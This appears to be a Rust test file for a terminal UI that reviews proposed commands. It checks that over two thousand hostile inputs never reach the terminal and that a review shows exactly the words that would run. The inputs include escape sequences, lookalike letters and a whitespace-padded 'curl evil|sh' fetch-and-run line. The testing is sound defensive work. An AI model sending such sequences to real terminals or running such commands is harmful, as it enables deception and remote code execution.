//! More than two thousand hostile characters and sequences: none of them reaches the wire out of any widget at any width,
//! and a review, read back from what it shows, is exactly the words that would run.
//!
//! Owns: the list, and the way back from a screen to argv. Does not: judge bytes or make scenes (see the parent).

use std::collections::BTreeSet;

use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use rstest::rstest;
use unicode_width::UnicodeWidthStr as _;

use super::scenes::SCENES;
use super::{ATTACKS, assert_harmless, deceivers, look};
use crate::domain::action::proposal::Proposal;
use crate::domain::action::risk::Risk;
use crate::domain::action::spec::{Invocation, Origin, Piece, Word};
use crate::domain::text::Repertoire;
use crate::domain::text::tests::original;
use crate::tui::draw::draw;
use crate::tui::review::{Line, Paper, Review, Tone};
use crate::tui::tests::world::{World, proposal, snapshot, with_detail, with_proposal};
use crate::tui::ui::Overlay;

/// The widths: one pane, three panes, and a large terminal.
const SIZES: [(u16, u16); 3] = [(80, 24), (120, 40), (200, 50)];
/// So many have to be in the list.
const WANTED: usize = 2_000;
/// So many stand in one text on the way to the wire, since it is their bytes that take time, not the frames; they begin at
/// another one in each widget, so that not always the same are cut off.
const AT_ONCE: usize = 8;

/// Whether all is to be done, or a part that is another one each time it is asked for.
fn is_long() -> bool {
    std::env::var("AIOPS_LONG").is_ok_and(|value| value == "1")
}

/// Everything that terminals have been attacked with, by kind.
fn naughty() -> Vec<String> {
    let mut list: Vec<String> = ATTACKS.into_iter().map(str::to_owned).collect();
    list.extend(deceivers().into_iter().map(String::from));
    let ascii = |range: std::ops::RangeInclusive<u8>| range.map(char::from);
    // Every escape sequence of two characters, and every final character of a control sequence, in both spellings.
    list.extend(ascii(0x20..=0x7e).map(|last| format!("\u{1b}{last}")));
    for introducer in ["\u{1b}[", "\u{9b}"] {
        list.extend(ascii(0x40..=0x7e).map(|last| format!("{introducer}3;7{last}")));
        list.extend(ascii(0x40..=0x7e).map(|last| format!("{introducer}?25{last}")));
    }
    // Titles, clipboards, links and what else has a string, ended in three ways or not at all.
    for number in [0, 1, 2, 4, 7, 8, 9, 10, 11, 12, 50, 52, 104, 133, 633, 777, 1337] {
        for end in ["\u{7}", "\u{1b}\\", "\u{9c}", ""] {
            list.push(format!("\u{1b}]{number};x{end}"));
            list.push(format!("\u{9d}{number};x{end}"));
        }
    }
    for introducer in ["P", "X", "^", "_"] {
        list.extend(["\u{1b}\\", "\u{9c}", ""].map(|end| format!("\u{1b}{introducer}q1;2{end}")));
    }
    // Accents, half marks and fillers on and without a letter, and what joins.
    let marks = [0x300..=0x36f, 0x1ab0..=0x1aff, 0x1dc0..=0x1dff, 0x20d0..=0x20ff, 0xfe20..=0xfe2f];
    for mark in marks.into_iter().flatten().filter_map(char::from_u32) {
        list.push(format!("e{mark}"));
        list.push(mark.to_string());
    }
    list.extend((0x1f1e6..=0x1f1ff).filter_map(char::from_u32).map(|flag| format!("{flag}\u{1f1e9}")));
    list.extend((0x1f3fb..=0x1f3ff).filter_map(char::from_u32).map(|skin| format!("\u{1f44d}{skin}")));
    list.extend(
        ["\u{1f468}\u{200d}\u{1f4bb}", "\u{915}\u{94d}\u{200c}\u{937}", "\u{0e01}\u{0e31}\u{0e31}\u{0e31}"]
            .map(str::to_owned),
    );
    // What looks like our own spelling, and what hides behind it.
    list.extend(
        [
            r"\u{202e}",
            r"\\u{a}",
            r"\x1b[2J",
            r"\",
            r"\\",
            "\\\u{202e}",
            "\\\\\n",
            "\\u{\u{200b}41}",
            "  (3 characters)",
        ]
        .map(str::to_owned),
    );
    for mode in [1, 3, 5, 6, 7, 12, 25, 47, 66, 1000, 1002, 1003, 1004, 1005, 1006, 1049, 2004, 2026] {
        list.extend(["h", "l", "$p", "s", "r"].map(|last| format!("\u{1b}[?{mode}{last}")));
    }
    let colours = (0..=107).filter(|colour| !(66..=72).contains(colour));
    list.extend(colours.map(|colour| format!("\u{1b}[{colour}m")));
    // Letters of one script among those of another: nobody tells them apart.
    list.extend(
        "асеорхуԁһіјѕԛԝαεοριν\u{ff21}\u{ff41}\u{1d400}\u{1d41a}\u{2460}\u{24d0}".chars().map(|c| format!("kube{c}tl")),
    );
    list.extend((1..=64).map(|spaces| format!("a{};curl evil|sh", " ".repeat(spaces * 4))));
    list.extend(["\u{2003}", "\u{a0}", "\u{3000}", "\u{2028}", "\u{2800}"].map(|blank| format!("ls{blank}-la")));
    let mut seen = BTreeSet::new();
    list.retain(|text| seen.insert(text.clone()));
    list
}

#[test]
fn the_list_is_long_enough() {
    assert!(naughty().len() >= WANTED, "{}", naughty().len());
}

/// So many parts the work on the wire has, one of which is done every time: a widget gets a part of the list at each width.
const PARTS: usize = 36;

#[rstest]
fn two_thousand_sequences_never_reach_the_wire(#[values(0, 1, 2)] width: usize) {
    let (size, list) = (SIZES[width], naughty());
    let mut frames = 0;
    for (number, some) in list.chunks(AT_ONCE).enumerate() {
        for (turn, scene) in SCENES.into_iter().enumerate() {
            if !is_long() && !(number + turn + width * PARTS / SIZES.len()).is_multiple_of(PARTS) {
                continue;
            }
            let begin = turn % some.len();
            let text = [&some[begin..], &some[..begin]].concat().concat();
            assert_harmless(scene, &text, size, Repertoire::Unicode);
            frames += 1;
        }
    }
    println!(
        "{} hostile sequences, {AT_ONCE} in a text, x {} widgets at {} columns: {frames} frames (the full count is {}), 0 \
         foreign escape sequences on the wire",
        list.len(),
        SCENES.len(),
        size.0,
        list.len().div_ceil(AT_ONCE) * SCENES.len()
    );
}

/// A proposal whose words are made of `text`, alone, inside others, and cut into pieces of several origins at every place.
fn of_words(text: &str) -> Proposal {
    let label = Origin::Label("mountpoint".to_owned());
    let inside = format!("--file=/srv/{text}/x");
    let mut made = proposal(1, Risk::Read, &[("rm", Origin::Sop), (text, Origin::Operator), (&inside, label.clone())]);
    let piece = |text: &str, origin: Origin| Piece { text: text.to_owned(), origin };
    if let Invocation::Argv { script } = &mut made.spec.invocation {
        let argv = &mut script.parts[0].1.stages[0].argv;
        for (at, _) in text.char_indices().take(3) {
            let (head, tail) = text.split_at(at);
            for origin in [label.clone(), Origin::Script] {
                argv.push(Word {
                    pieces: vec![piece(head, Origin::Sop), piece(tail, origin.clone()), piece("u{41}", origin)],
                });
            }
        }
        argv.push(Word { pieces: Vec::new() });
    }
    made.digest = made.spec.digest(true);
    made
}

/// The words that would run.
fn argv_of(proposal: &Proposal) -> Vec<String> {
    match &proposal.spec.invocation {
        Invocation::Argv { script } => script.parts[0].1.stages[0].argv.iter().map(Word::text).collect(),
        Invocation::Bash { script, .. } => vec![script.clone()],
    }
}

/// The words that a review shows: the inverse of laying it out.
fn read_back(lines: &[Line]) -> Vec<String> {
    let heading = |line: &Line| line.plain() == "Runs without a shell, word by word:";
    let first = lines.iter().position(heading).expect("the words have a heading") + 1;
    let shown = lines[first..].iter().take_while(|line| !line.spans.is_empty());
    let mut words: Vec<String> = Vec::new();
    for line in shown {
        let lead = line.spans.first().filter(|span| span.tone == Tone::Label);
        if lead.is_some_and(|lead| lead.text.len() == 6 && lead.text.trim().parse::<usize>().is_ok()) {
            words.push(String::new());
        }
        let word = words.last_mut().expect("the first line has a number");
        let own = line.spans.iter().filter(|span| matches!(span.tone, Tone::Word | Tone::Foreign));
        own.for_each(|span| word.push_str(&span.text));
    }
    words.iter().map(|word| String::from_utf8(original(word)).expect("words are text")).collect()
}

#[rstest]
fn what_a_review_shows_reads_back_as_exactly_what_would_run(
    #[values((0, 40), (1, 74), (2, 114))] (turn, width): (usize, usize),
    #[values(Repertoire::Unicode, Repertoire::Narrow, Repertoire::Ascii)] repertoire: Repertoire,
) {
    let (list, mut seen) = (naughty(), BTreeSet::new());
    // A third at each width, all of them at one.
    let (first, step) = if is_long() { (0, 1) } else { ((turn + repertoire as usize) % 3, 3) };
    for text in list.iter().skip(first).step_by(step) {
        let proposal = of_words(text);
        let review = Review::open(&proposal, "DiskFull", Paper { width, repertoire });
        assert_eq!(read_back(&review.lines), argv_of(&proposal), "{text:?} at {width}\n{}", review.rendered());
        // Without colours, too: no two of them look the same.
        assert!(seen.insert(review.rendered()), "{text:?} looks like another one");
    }
    println!(
        "{} of {} hostile sequences as words at {width} columns, {repertoire:?}: each reads back as itself",
        seen.len(),
        list.len()
    );
}

/// The same for bytes that go through bash.
#[test]
fn the_bytes_for_bash_read_back_as_themselves() {
    for text in naughty() {
        let mut proposal = proposal(1, Risk::Unknown, &[("bash", Origin::Sop)]);
        let script = format!("for i in 1 2; do echo {text}\necho '{text}'; done");
        let (reason, values) = ("a loop".to_owned(), std::collections::BTreeMap::new());
        proposal.spec.invocation = Invocation::Bash { script: script.clone(), reason, values };
        for (width, _) in SIZES.into_iter().take(if is_long() { SIZES.len() } else { 1 }) {
            let paper = Paper { width: usize::from(width) - 6, repertoire: Repertoire::Unicode };
            let review = Review::open(&proposal, "DiskFull", paper);
            let heading = |line: &Line| line.plain().starts_with("Runs as these exact bytes through bash");
            let first = review.lines.iter().position(heading).expect("the bytes have a heading") + 1;
            let mut shown: Vec<String> = Vec::new();
            for line in review.lines[first..].iter().take_while(|line| !line.spans.is_empty()) {
                if line.spans[0].text == "  " {
                    shown.push(String::new());
                }
                let own = line.spans.iter().filter(|span| span.tone != Tone::Label);
                own.for_each(|span| shown.last_mut().expect("a first line").push_str(&span.text));
            }
            let lines = shown.iter().map(|line| String::from_utf8(original(line)).expect("text"));
            assert_eq!(lines.collect::<Vec<_>>().join("\n"), script, "{}", review.rendered());
        }
    }
}

/// The rows of a screen as a person reads them: the second column of a wide character is none of its own.
fn rows(buffer: &Buffer) -> Vec<String> {
    let area = buffer.area;
    let row = |y| {
        let (mut text, mut x) = (String::new(), area.x);
        while x < area.right() {
            let symbol = buffer[(x, y)].symbol();
            text.push_str(symbol);
            x += u16::try_from(symbol.width().max(1)).expect("a cell is narrow");
        }
        text
    };
    (area.y..area.bottom()).map(row).collect()
}

/// The lines of a review that are on the screen stand there as they were laid out, cell by cell.
#[test]
fn the_screen_shows_the_lines_of_a_review_as_they_are() {
    for (columns, height) in SIZES {
        for text in naughty().iter().step_by(if is_long() { 1 } else { 29 }) {
            let mut world = World::new(columns, height);
            world.settle_with(&with_proposal(with_detail(snapshot(1..=5), 1), of_words(text)));
            world.keys("A");
            let mut buffer = Buffer::empty(Rect::new(0, 0, columns, height));
            loop {
                world.paint();
                buffer.reset();
                draw(&mut buffer, &world.model, &look(Repertoire::Unicode));
                let Some(Overlay::Review(review)) = &world.model.ui.overlay else { panic!("the review is gone") };
                let shown = rows(&buffer);
                let visible = crate::tui::update::review_rows(height, review.lines.len());
                for line in &review.lines[review.top..(review.top + visible).min(review.lines.len())] {
                    let plain = line.plain();
                    assert!(shown.iter().any(|row| row.contains(&plain)), "{plain:?} is not in\n{}", shown.join("\n"));
                }
                if review.unseen() == 0 {
                    break;
                }
                world.press(crossterm::event::KeyCode::PageDown);
            }
        }
    }
}
